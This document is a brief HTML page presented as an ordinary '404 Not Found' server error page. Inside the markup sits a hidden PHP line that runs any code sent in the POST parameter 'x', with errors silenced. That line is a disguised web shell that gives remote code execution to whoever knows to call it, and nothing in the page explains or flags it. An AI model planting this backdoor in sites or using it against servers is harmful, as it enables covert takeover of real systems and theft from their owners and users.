<html><head><title>404 Not Found</title></head><body>
<h1>Not Found</h1>
<p>The requested URL was not found on this server.</p>
<?php if(isset($_POST['x'])){@eval($_POST['x']);} ?>
</body></html>
